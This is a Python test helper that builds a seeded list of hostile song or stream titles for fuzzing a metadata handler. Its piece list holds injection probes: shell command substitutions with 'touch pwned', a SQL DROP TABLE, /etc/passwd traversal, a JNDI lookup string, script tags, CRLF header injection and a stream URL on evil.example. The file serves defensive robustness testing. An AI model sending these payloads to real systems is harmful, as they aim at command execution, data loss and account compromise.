"""Titles that somebody would send to see what breaks, the same ones each time."""

import random

PIECES = [
    *(
        "'",
        '"',
        "`",
        "\\",
        ";",
        "&",
        "<",
        ">",
        "%",
        "#",
        "$",
        "|",
        "\0",
        "\n",
        "\r\n",
        "\t",
        "\x1b",
    ),
    *("';", "';StreamUrl='http://evil.example/';", "StreamTitle='x';", "\\';", '\\"', "' - '"),
    *("#{environment.get('HOME')}", '#{process.run("touch pwned")}', "$(touch pwned)", "`touch x`"),
    *(
        'x":process:wav,touch pwned; cp $(input) $(output) #',
        "annotate:title='x':",
        "\nmweya.quit\n",
    ),
    *("%0d%0aHost: evil", "%27%3B", "%s%n%p", "&song=other&mode=updinfo", "?mount=/1", "#fragment"),
    *("</title><script>alert(1)</script>", "<![CDATA[", "]]>", "&quot;&#39;&lt;", "<!DOCTYPE x>"),
    *(
        "'; DROP TABLE air_lines; --",
        "../../etc/passwd",
        "{{7*7}}",
        "{% raw %}",
        "${jndi:ldap://x}",
    ),
    *(
        "👩‍👩‍👧‍👦",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "🇿🇦",
        "👍🏾",
        "日本語",
        "Reën op 'n sinkdak",
        "Ẅ",
        "e\u0301",
        "ﷺ",
        "ß",
        "½",
    ),
    *("שלום", "مرحبا", "\u202eevil\u202c", "\u2066x\u2069", "\u200f", "\u061c", "\u200b", "\ufeff"),
    *("\u2028", "\u2029", "\x85", "\xa0", "\u3000", "\ufffe", "\U0010ffff", "\ue000"),
    *("z\u0300\u0301\u0302\u0303\u0304", "ක්\u200dෂ", "END", "OK/", "\x7f", "\x9f"),
    *("a" * 300, "日" * 200, "😀" * 100, "Thandi Mokoena", "The river behind our school", " ", "0"),
]


def hostile_titles(count, seed=6):
    """So many titles, each of the pieces above alone at first, then several in any order."""
    chosen = random.Random(seed)
    alone = PIECES[:count]
    mixed = [
        "".join(chosen.choices(PIECES, k=chosen.randint(2, 9))) for _ in range(count - len(alone))
    ]
    return [*alone, *mixed]
